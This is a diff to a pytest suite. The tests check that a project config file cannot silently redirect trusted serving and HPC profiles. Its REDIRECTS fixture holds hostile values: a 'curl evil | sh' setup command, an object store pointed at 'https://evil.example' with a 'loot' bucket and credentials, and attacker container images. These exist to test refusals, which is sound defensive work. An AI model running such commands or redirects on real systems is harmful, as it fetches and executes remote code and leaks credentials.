@@ -328,7 +328,7 @@ REDIRECTS: dict[str, tuple[str, object]] = {
     "model_volume": ("serving", {"host_path": "/"}),
     "storage_class": ("serving", "attacker-sc"),
     "object_store": ("serving", {"endpoint_url": "https://evil.example", "bucket": "loot",
-                                 "credentials": {"secret_access_key": "s3cr3t-key"}}),
+                                 "credentials_secret": "s3cr3t-creds"}),
     "setup": ("hpc", ["curl evil | sh"]),
     "defaults.image": ("serving", "evil/image:latest"),
     "fetch_image": ("serving", "evil/fetch:latest"),  # it is handed the object store's credentials
@@ -344,14 +344,6 @@ def test_every_connection_key_has_a_redirect_case() -> None:
     assert set(config.CONNECTION_KEYS) >= config.COMMAND_KEYS
 
 
-@pytest.fixture()
-def object_store_key(monkeypatch: pytest.MonkeyPatch) -> None:
-    """``object_store`` is validated by its own change; until then let a profile carry it."""
-    for tier in config.TIERS:
-        if "object_store" not in config.TIER_KEYS[tier]:
-            monkeypatch.setitem(config.TIER_KEYS[tier], "object_store", dict)
-
-
 def _profile_with(key: str, value: object) -> dict[str, object]:
     head, _, sub = key.partition(".")
     return {"defaults": {sub: value}} if head == "defaults" else {key: value}
@@ -364,7 +356,7 @@ def _yaml(doc: dict[str, object]) -> str:
 
 
 @pytest.mark.parametrize("key", sorted(REDIRECTS))
-def test_project_cannot_redirect_a_trusted_profile(home: Path, object_store_key: None, key: str) -> None:
+def test_project_cannot_redirect_a_trusted_profile(home: Path, key: str) -> None:
     name, value = REDIRECTS[key]
     err = _refused(_yaml({"profiles": {name: _profile_with(key, value)}}))
     assert isinstance(err, config.ProjectFileRefused)
@@ -384,7 +376,7 @@ def test_project_cannot_redirect_a_trusted_profile(home: Path, object_store_key:
 
 
 @pytest.mark.parametrize("key", sorted(set(REDIRECTS) - config.COMMAND_KEYS - {"tier"}))
-def test_a_project_only_profile_may_still_set_it(home: Path, object_store_key: None, key: str) -> None:
+def test_a_project_only_profile_may_still_set_it(home: Path, key: str) -> None:
     name, value = REDIRECTS[key]
     tier = TIER_OF[name]
     host = {"host": "course.example"} if tier == "slurm" else {}
@@ -480,7 +472,7 @@ def test_all_refusals_at_once_one_line_each(home: Path) -> None:
 
 @pytest.mark.parametrize("how", ["user-key", "env-var", "explicit-file"])
 def test_opt_in_lets_the_project_redirect_and_set_loader_env(home: Path, monkeypatch: pytest.MonkeyPatch,
-                                                             object_store_key: None, how: str) -> None:
+                                                             how: str) -> None:
     path = _project("""
         profiles:
           serving:
@@ -511,7 +503,7 @@ def test_opt_in_lets_the_project_redirect_and_set_loader_env(home: Path, monkeyp
     assert hpc.env["PYTHONPATH"] == "/opt/lib"
 
 
-def test_refusal_messages_fuzz(home: Path, object_store_key: None) -> None:
+def test_refusal_messages_fuzz(home: Path) -> None:
     """Random project files over the connection keys and env names, with hostile values: the
     refusal is one header line, one line per refused key, one opt-in line, all printable."""
     import yaml
@@ -548,8 +540,14 @@ def test_refusal_messages_fuzz(home: Path, object_store_key: None) -> None:
         except ConfigError as err:
             invalid += 1
             assert type(err) is ConfigError  # a bad value: the ordinary one-key error
-        else:
-            assert not any(k in config.CONNECTION_KEYS for p in profiles.values() for k in p if k != "env")
+        else:  # accepted: every connection key it names repeats the trusted value (no change)
+            given = [(n, k) for n, p in profiles.items() for k in p if k in config.CONNECTION_KEYS]
+            if given:
+                (Path.cwd() / "tiers.yaml").unlink()
+                config_cache_clear()
+                trusted = {n: load_config().profile(n) for n, _ in given}
+                assert all((trusted[n].tier if k == "tier" else trusted[n].get(k)) == profiles[n][k]
+                           for n, k in given), profiles
     assert refused > 100 and invalid > 10, (refused, invalid)
 
 
